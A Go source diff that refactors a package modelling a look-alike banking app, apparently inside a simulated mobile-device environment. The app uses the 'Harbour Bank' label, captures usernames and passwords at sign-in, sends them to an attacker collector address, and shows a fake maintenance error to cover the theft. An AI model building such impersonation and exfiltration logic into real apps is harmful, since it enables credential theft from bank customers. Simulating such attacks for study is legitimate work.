@@ -1,4 +1,4 @@
-package attacker
+package lookalike
 
 import (
 	"bytes"
@@ -10,16 +10,17 @@ import (
 	"os"
 
 	"keyladder/internal/traffic"
+	"keyladder/mobileclient/attacker/network"
 	"keyladder/mobileclient/device/sdk"
 	"keyladder/mobileclient/release"
 )
 
-// lookAlikeName is what the look-alike app is called on devices. People never see it:
-// they see the label, which is the bank's.
-const lookAlikeName = "com.harbourbank.app2"
+// name is what the look-alike app is called on devices. People never see it: they see the
+// label, which is the bank's.
+const name = "com.harbourbank.app2"
 
-// typed is what somebody typed into the look-alike app.
-type typed struct {
+// Typed is what somebody typed into the look-alike app.
+type Typed struct {
 	User     string `json:"user"`
 	Password string `json:"password"`
 }
@@ -27,8 +28,8 @@ type typed struct {
 // The look-alike app needs a program, and the attacker has no compiler at hand: it is
 // this very program. A device starts apps under their names.
 func init() {
-	if len(os.Args) == 1 && os.Args[0] == lookAlikeName {
-		if err := sdk.Run(newLookAlikeApp); err != nil {
+	if len(os.Args) == 1 && os.Args[0] == name {
+		if err := sdk.Run(newApp); err != nil {
 			fmt.Fprintln(os.Stderr, err)
 			os.Exit(1)
 		}
@@ -36,15 +37,14 @@ func init() {
 	}
 }
 
-// lookAlikeApp shows the bank's screens. What is typed into them it sends to the
-// attacker.
-type lookAlikeApp struct {
+// app shows the bank's screens. What is typed into them it sends to the attacker.
+type app struct {
 	system    *sdk.System
 	collector string
 	client    *http.Client
 }
 
-func newLookAlikeApp(system *sdk.System) (sdk.Handler, error) {
+func newApp(system *sdk.System) (sdk.Handler, error) {
 	self, err := sdk.Package()
 	if err != nil {
 		return nil, err
@@ -53,30 +53,30 @@ func newLookAlikeApp(system *sdk.System) (sdk.Handler, error) {
 	if err != nil {
 		return nil, err
 	}
-	return &lookAlikeApp{
+	return &app{
 		system:    system,
 		collector: string(assets[collectorAsset]),
-		client:    &http.Client{Transport: &http.Transport{DialContext: system.Dial}, Timeout: callTimeout},
+		client:    &http.Client{Transport: &http.Transport{DialContext: system.Dial}, Timeout: network.Timeout},
 	}, nil
 }
 
 // collectorAsset holds the address to which what was typed goes.
 const collectorAsset = "collector.txt"
 
-func (*lookAlikeApp) Open(context.Context, string) error    { return nil }
-func (*lookAlikeApp) OpenURL(context.Context, string) error { return nil }
+func (*app) Open(context.Context, string) error    { return nil }
+func (*app) OpenURL(context.Context, string) error { return nil }
 
 // Tap has one interesting button.
-func (a *lookAlikeApp) Tap(ctx context.Context, tap sdk.Tap) (sdk.Screen, error) {
+func (a *app) Tap(ctx context.Context, tap sdk.Tap) (sdk.Screen, error) {
 	if tap.What == sdk.SignIn {
-		if err := a.send(ctx, typed{tap.User, tap.Password}); err != nil {
+		if err := a.send(ctx, Typed{tap.User, tap.Password}); err != nil {
 			return sdk.Screen{Error: err.Error()}, nil
 		}
 	}
 	return sdk.Screen{SignIn: sdk.InApp, Error: "Harbour Bank is being serviced. Please try again in an hour."}, nil
 }
 
-func (a *lookAlikeApp) send(ctx context.Context, what typed) error {
+func (a *app) send(ctx context.Context, what Typed) error {
 	body, err := json.Marshal(what)
 	if err != nil {
 		return err
